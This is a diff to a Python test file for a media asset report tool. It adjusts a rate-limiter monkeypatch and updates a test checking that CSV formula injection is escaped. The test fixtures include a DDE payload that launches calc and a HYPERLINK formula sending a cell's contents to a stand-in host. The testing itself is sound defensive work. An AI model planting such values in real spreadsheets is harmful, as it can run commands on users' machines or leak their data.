@@ -67,7 +67,8 @@ def test_the_report_prints_the_totals_the_world_holds_and_changes_nothing(world,
 def test_the_report_reads_each_asset_once_and_respects_the_rate_limiter(world, capsys, monkeypatch):
     passed = []
     acquire = iconik.RateLimiter.acquire
-    monkeypatch.setattr(iconik.RateLimiter, "acquire", lambda self: passed.append(self.rate) or acquire(self))
+    monkeypatch.setattr(iconik.RateLimiter, "acquire",
+                            lambda self, party=None: passed.append(self.rate) or acquire(self, party))
 
     code, _, err = run_report(capsys)
 
@@ -124,7 +125,8 @@ def test_names_are_formula_escaped_in_the_csv_cleaned_on_the_terminal_and_the_fi
         names = {row["name"] for row in csv.DictReader(file)}
     assert "'" + HOSTILE in names and "'+cmd|' /C calc'!A0.mov" in names
     assert not [name for name in names if name.startswith(("=", "+", "-", "@"))]
-    assert 'HYPERLINK("http://x.example/?"&A1)' in out
+    # the reason names the file by its path in the file set, whose doubled slashes are one
+    assert 'HYPERLINK("http:/x.example/?"&A1)' in out
     assert not [ch for ch in out if ch not in "\n" and (ord(ch) < 32 or 0x7f <= ord(ch) < 0xa0 or ch == "\u202e")]
 
 
